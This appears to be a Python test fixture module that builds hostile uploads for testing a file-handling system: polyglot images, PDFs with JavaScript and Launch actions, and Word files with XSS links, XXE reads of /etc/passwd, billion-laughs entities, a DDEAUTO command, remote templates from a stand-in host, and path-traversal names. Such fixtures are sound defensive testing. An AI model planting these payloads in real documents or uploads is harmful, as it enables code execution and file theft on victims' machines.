"""Pictures, PDFs and Word documents that a stranger could send: each is a sound file but for what its name says."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Mapping
from html import escape
from typing import Final

from pikepdf import Array, Dictionary, Name, String
from PIL import Image, PngImagePlugin

from tests.support import docx
from tests.support.made_pdf import SCRIPT, pdf
from tools.bench.pathological_files import chunk, png

HTML: Final = b"<!DOCTYPE html><script>alert(1)</script><img src=//marker.example/x.png onerror=alert(1)>"
SVG: Final = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
XMP: Final = (
    b"<?xpacket begin='' id='W5M0MpCehiHzreSzNTczkc9d'?><x:xmpmeta xmlns:x='adobe:ns:meta/'>"
    + HTML
    + b"</x:xmpmeta><?xpacket end='w'?>"
)
SIZE: Final = (900, 600)


def _saved(kind: str, **options: object) -> bytes:
    target = io.BytesIO()
    Image.linear_gradient("L").resize(SIZE).convert("RGB").save(target, kind, **options)
    return target.getvalue()


def _exif(place: bool = False) -> bytes:
    exif = Image.Exif()
    exif[0x010E] = exif[0x8298] = exif[0x013B] = HTML.decode()
    if place:
        exif.get_ifd(0x8825).update({1: "N", 2: (38.0, 0.0, 0.0), 3: "E", 4: (23.0, 0.0, 0.0)})
    return exif.tobytes()


def _texts() -> PngImagePlugin.PngInfo:
    info = PngImagePlugin.PngInfo()
    info.add_text("Title", HTML.decode())
    info.add_itxt("XML:com.adobe.xmp", XMP.decode(), zip=True)
    info.add_text("Comment", "a" * 100_000, zip=True)
    return info


def _zip(parts: Mapping[str, bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name, raw in parts.items():
            archive.writestr(name, raw)
    return target.getvalue()


def _annotated(*actions: Dictionary) -> bytes:
    import pikepdf

    with pikepdf.open(io.BytesIO(pdf())) as made:
        made.pages[0].Annots = Array(
            [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 99, 99], A=action) for action in actions]
        )
        target = io.BytesIO()
        made.save(target, deterministic_id=True)
    return target.getvalue()


def _link(address: str) -> Dictionary:
    return Dictionary(S=Name.URI, URI=String(address))


PICTURES: Final[dict[str, Callable[[], bytes]]] = {
    "svg-called-png": lambda: SVG,
    "html-called-png": lambda: HTML,
    "gif-of-javascript": lambda: b"GIF89a/*\x01\x00\x00*/=1;alert(1);//" + bytes(40),
    "png-with-html-behind": lambda: _saved("PNG") + HTML,
    "jpeg-with-html-in-a-comment": lambda: _saved("JPEG", comment=HTML),
    "jpeg-with-markup-in-exif": lambda: _saved("JPEG", exif=_exif()),
    "png-with-xmp-markup": lambda: _saved("PNG", pnginfo=_texts()),
    "png-with-text-chunks": lambda: png(*SIZE, extra=chunk(b"tEXt", b"Comment\0" + HTML) + chunk(b"eXIf", b"MM\0*")),
    "zip-behind-a-jpeg": lambda: _saved("JPEG") + _zip({"META-INF/MANIFEST.MF": b"x", "a.html": HTML}),
    "png-of-a-billion-pixels": lambda: png(8, 8).replace(
        png(8, 8)[8:33], chunk(b"IHDR", b"\0\0\xff\xff\0\0\xff\xff\x08\0\0\0\0")
    ),
    "png-cut-off": lambda: _saved("PNG")[:400],
    "picture-that-is-a-pdf": lambda: pdf(root=SCRIPT),
    "webp-with-xmp": lambda: _saved("WEBP", xmp=XMP, exif=_exif()),
    "jpeg-of-a-place": lambda: _saved("JPEG", exif=_exif(place=True)),
}
ENDINGS: Final = {
    "jpeg-with-html-in-a-comment": "jpg", "jpeg-with-markup-in-exif": "jpg", "zip-behind-a-jpeg": "jpg",
    "webp-with-xmp": "webp", "jpeg-of-a-place": "jpg",
}  # fmt: skip
PDFS: Final[dict[str, Callable[[], bytes]]] = {
    "pdf-with-javascript": lambda: pdf(root=SCRIPT),
    "pdf-that-launches": lambda: _annotated(Dictionary(S=Name.Launch, F=String("cmd.exe"))),
    "pdf-with-javascript-links": lambda: _annotated(_link("javascript:alert(1)"), _link("JAVASCRIPT:alert(1)")),
    "pdf-with-file-links": lambda: _annotated(
        _link("file:///etc/passwd"), Dictionary(S=Name.GoToR, F=String("\\\\marker.example\\x.pdf"), D=Array([0]))
    ),
    "pdf-with-files": lambda: pdf(attached=True),
    "pdf-with-markup-in-its-title": lambda: pdf(title=HTML.decode(), info={"Subject": "=1+1", "Keywords": "{{7*7}}"}),
    "pdf-with-a-form": lambda: pdf(
        root={"AcroForm": Dictionary(Fields=Array([]), XFA=String("<xdp><script>app.alert(1)</script></xdp>"))}
    ),
    "pdf-with-additional-actions": lambda: pdf(root={"AA": Dictionary(WC=SCRIPT["OpenAction"])}),
    "pdf-that-is-html": lambda: HTML + pdf(),
}


def _relation(kind: str, target: str, outside: bool = True, name: str = "rIdX") -> bytes:
    mode = ' TargetMode="External"' if outside else ""
    return (
        f'{docx.XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="{name}" Type="{docx.REL}/{kind}" Target="{target}"{mode}/></Relationships>'
    ).encode()


def _replaced(name: str, raw: bytes, body: str = "") -> bytes:
    parts = docx.parts_of(docx.docx(body or docx.p(docx.t("Words"))))
    return docx.zipped({**parts, name: raw})


def _document(head: str, words: str) -> bytes:
    body = f"<w:body><w:p><w:r><w:t>{words}</w:t></w:r></w:p></w:body>"
    return f'<?xml version="1.0"?>{head}<w:document {docx.SPACES}>{body}</w:document>'.encode()


MARKUP: Final = HTML.decode()
LAUGHS: Final = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "ha"}">' for n in range(12))
INSTRUCTION: Final = '<w:fldSimple w:instr=" {code} "><w:r><w:t>words</w:t></w:r></w:fldSimple>'
EMBEDDED: Final = '<w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rIdO"/></w:object>'
LINKS: Final = {
    "a": "javascript:alert(1)", "b": "JAVASCRIPT&#58;alert(1)", "c": "data:text/html,x", "d": "file:///etc/passwd",
    "e": "https://www.example.org/&quot;onmouseover=&quot;alert(1)", "f": "//marker.example/", "g": "vbscript:x",
}  # fmt: skip


def _paragraphs(*words: str, style: str = "") -> str:
    return "".join(docx.p(docx.t(one), style=style) for one in words)


WORD: Final[dict[str, Callable[[], bytes]]] = {
    "word-with-markup": lambda: docx.docx(
        _paragraphs(MARKUP, style="Title") + _paragraphs(MARKUP, style="20") + _paragraphs(MARKUP)
        + docx.table([MARKUP, "a"], [MARKUP, "b"]) + docx.item(MARKUP, 1)
    ),
    "word-with-markdown": lambda: docx.docx(
        _paragraphs("[a](javascript:alert(1))", "![x](//marker.example/x.png)", "<javascript:alert(1)>", "# a {: .x }",
                    "[a]: javascript:alert(1)", "--8<-- \"/etc/passwd\"", "~~~html", "&lt;script&gt;")
    ),
    "word-with-script-links": lambda: docx.docx(
        "".join(docx.p(docx.link(key, docx.t(f"words {key}"))) for key in LINKS), links=LINKS
    ),
    "word-with-template-signs": lambda: docx.docx(_paragraphs("{{ 7*7 }} {% x %} *|EMAIL|* ${a} <%= b %>")),
    "word-with-macros": lambda: docx.docx(
        _paragraphs("Words"), more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0Sub AutoOpen"},
        related={"rIdV": ("vbaProject", "vbaProject.bin")},
    ),
    "word-with-an-outside-template": lambda: _replaced(
        "word/_rels/settings.xml.rels", _relation("attachedTemplate", "https://marker.example/x.dotm")
    ),
    "word-with-an-outside-picture": lambda: _replaced(
        "word/_rels/document.xml.rels", _relation("image", "file:///etc/passwd"),
        docx.p(docx.t("Words"), docx.picture("rIdX").replace("r:embed", "r:link")),
    ),
    "word-with-an-svg": lambda: docx.docx(docx.p(docx.picture("rIdP")), media={"rIdP": ("x.svg", SVG)}),
    "word-with-entities": lambda: _replaced(
        "word/document.xml", _document('<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>', "&y;")
    ),
    "word-with-laughs": lambda: _replaced("word/document.xml", _document(f"<!DOCTYPE x [{LAUGHS}]>", "&a11;")),
    "word-with-a-bomb": lambda: _replaced("word/media/x.bin", bytes(300_000_000)),
    "word-with-paths": lambda: docx.docx(
        docx.p(docx.picture("rIdP")), media={"rIdP": ("../../../../evil.png", _saved("PNG"))}
    ),
    "word-with-deep-nesting": lambda: docx.docx("<w:sdt><w:sdtContent>" * 4000 + "</w:sdtContent></w:sdt>" * 4000),
    "word-with-fields": lambda: docx.docx(
        "".join(
            docx.p(INSTRUCTION.format(code=code))
            for code in ("HYPERLINK &quot;javascript:alert(1)&quot;", "INCLUDETEXT &quot;/etc/passwd&quot;",
                         "DDEAUTO c:\\\\cmd &quot;/C calc&quot;", "INCLUDEPICTURE &quot;//marker.example/x&quot;")
        )
    ),
    "word-with-an-object": lambda: docx.docx(
        docx.p(docx.t("Words"), docx.run(EMBEDDED)),
        more={"word/embeddings/x.bin": b"MZ"}, related={"rIdO": ("oleObject", "embeddings/x.bin")},
    ),
    "word-with-html-inside": lambda: docx.docx(
        docx.p(docx.t("Words")) + '<w:altChunk r:id="rIdH"/>',
        more={"word/x.html": HTML}, related={"rIdH": ("aFChunk", "x.html")},
    ),
    "word-with-null-bytes": lambda: _replaced("word/document.xml", _document("", "a\0b").replace(b"<w:t>", b"<w:t>\0")),
    "word-cut-off": lambda: docx.docx(_paragraphs("Words"))[:-30],
    "word-with-markup-in-notes": lambda: docx.docx(
        docx.p(docx.t("Words"), docx.note(2)), notes={"footnotes": {2: escape(MARKUP)}}
    ),
    "word-with-markup-in-properties": lambda: docx.docx(_paragraphs("Words"), title=MARKUP),
}  # fmt: skip
MADE: Final = {**PICTURES, **PDFS, **WORD}
